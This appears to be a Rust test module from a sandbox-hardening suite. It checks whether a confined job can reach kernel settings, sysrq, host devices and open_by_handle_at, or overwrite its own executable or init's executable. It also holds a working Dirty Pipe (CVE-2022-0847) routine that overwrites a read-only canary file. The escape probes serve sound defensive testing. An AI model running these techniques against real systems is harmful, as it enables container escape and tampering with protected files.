//! K20–K23, K27, K32, K37–K38: kernel settings, files by handle, the launcher's own file, flags and known bugs.

use std::fs::File;
use std::io::{self, Read};
use std::os::unix::fs::{FileExt, MetadataExt};
use std::path::PathBuf;

use pond_sys::attempt;
use rustix::fs::{Access, OFlags};
use rustix::io::Errno;
use rustix::pipe::SpliceFlags;

use super::interfaces::open;
use crate::attack::case::{Case, absent, denied};
use crate::attack::scene::{Scene, found};

pub(super) const CASES: &[Case] = &[
    Case {
        id: "K20",
        what: "set the program that receives core dumps",
        probes: &[absent("core_pattern", |_| open("/proc/sys/kernel/core_pattern", OFlags::WRONLY))],
    },
    Case {
        id: "K21",
        what: "press the emergency keys",
        probes: &[absent("sysrq-trigger", |_| open_trigger())
            .excused(&[(Errno::NOENT, "this kernel has no emergency keys")])],
    },
    Case {
        id: "K22",
        what: "write any kernel setting",
        probes: &[denied("/proc/sys", |_| open_any_setting())],
    },
    Case {
        id: "K23",
        what: "look at the devices and modules of the host",
        probes: &[absent("/sys", |_| devices_and_modules())],
    },
    Case {
        id: "K27",
        what: "open a file by its handle, around every directory",
        probes: &[denied("open_by_handle_at", |scene| {
            attempt::open_by_handle(&scene.planted.join("canary"))
        })
        .excused(&[(Errno::OPNOTSUPP, "the temporary directory's filesystem has no handles")])],
    },
    Case {
        id: "K32",
        what: "overwrite the program that runs or launched the job",
        probes: &[
            denied("own executable", |_| write_own_executable()),
            denied("executable of init", |scene| open(&scene.of_init("exe"), OFlags::RDONLY)),
            denied("truncate", truncate_executable),
            denied("link", link_executable),
        ],
    },
    Case {
        id: "K37",
        what: "flags and discards below the filesystem",
        probes: &[
            denied("inode flags", set_flags).excused(&[
                (Errno::NOTTY, "the temporary directory's filesystem has no inode flags"),
                (Errno::OPNOTSUPP, "the temporary directory's filesystem has no inode flags"),
            ]),
            absent("trim", |scene| attempt::discard_unused(File::open(&scene.home)?))
                .excused(&[(Errno::NOTTY, "the temporary directory's filesystem cannot be trimmed")]),
        ],
    },
    Case {
        id: "K38",
        what: "known bugs of kernels: write a read-only file through the page cache",
        probes: &[absent("Dirty Pipe", dirty_pipe).excused(&[(Errno::NODATA, "this kernel is not affected")])],
    },
];

fn devices_and_modules() -> io::Result<()> {
    let is_there = |name: &str| {
        std::fs::read_dir(format!("/sys/{name}")).is_ok_and(|mut entries| entries.next().is_some())
    };
    found(["block", "bus", "class", "devices", "firmware", "kernel", "module"].into_iter().any(is_there))
}

/// What is masked is the null device, whatever it is called.
fn open_trigger() -> io::Result<()> {
    let file = File::options().write(true).open("/proc/sysrq-trigger")?;
    found(file.metadata()?.rdev() == 0)
}

/// Opens every setting for writing, and writes nothing.
fn open_any_setting() -> io::Result<()> {
    let mut pending = vec![PathBuf::from("/proc/sys")];
    let mut result = Err(Errno::NOENT.into());
    while let Some(directory) = pending.pop() {
        for entry in std::fs::read_dir(&directory)?.filter_map(Result::ok) {
            let path = entry.path();
            if entry.file_type()?.is_dir() {
                pending.push(path);
                continue;
            }
            match rustix::fs::open(&path, OFlags::WRONLY | OFlags::NONBLOCK, rustix::fs::Mode::empty()) {
                Ok(_) => return Ok(()),
                Err(errno) => result = Err(errno.into()),
            }
        }
    }
    result
}

/// Asked, not opened: a program that runs is busy before anybody looks whether its mount may be written at all.
fn write_own_executable() -> io::Result<()> {
    Ok(rustix::fs::access("/proc/self/exe", Access::WRITE_OK)?)
}

/// Opening to truncate asks the mount first. Outside it is a copy that nobody needs; "busy" is an answer past every refusal.
fn truncate_executable(scene: &Scene) -> io::Result<()> {
    match File::options().write(true).truncate(true).open(&scene.executable) {
        Err(fault) if Errno::from_io_error(&fault) == Some(Errno::TXTBSY) => Ok(()),
        other => other.map(drop),
    }
}

fn link_executable(scene: &Scene) -> io::Result<()> {
    let link = scene.temporary.join("link-to-executable");
    std::fs::hard_link(&scene.executable, &link)?;
    std::fs::remove_file(link)
}

fn set_flags(scene: &Scene) -> io::Result<()> {
    let path = scene.temporary.join("flags");
    let result = attempt::set_inode_flag(File::create(&path)?);
    std::fs::remove_file(path)?;
    result
}

/// CVE-2022-0847: a page spliced into a pipe that is still marked as open for appending takes what is written next.
fn dirty_pipe(scene: &Scene) -> io::Result<()> {
    let file = File::open(scene.planted.join("canary"))?;
    let (read, write) = rustix::pipe::pipe()?;
    let room = rustix::pipe::fcntl_getpipe_size(&write)?;
    let mut whole = vec![b'.'; room];
    rustix::io::write(&write, &whole)?;
    File::from(read.try_clone()?).read_exact(&mut whole)?;
    rustix::pipe::splice(&file, Some(&mut 0), &write, None, 1, SpliceFlags::empty())?;
    rustix::io::write(&write, b"X")?;
    let mut second = [0; 1];
    file.read_exact_at(&mut second, 1)?;
    found(second == *b"X")
}
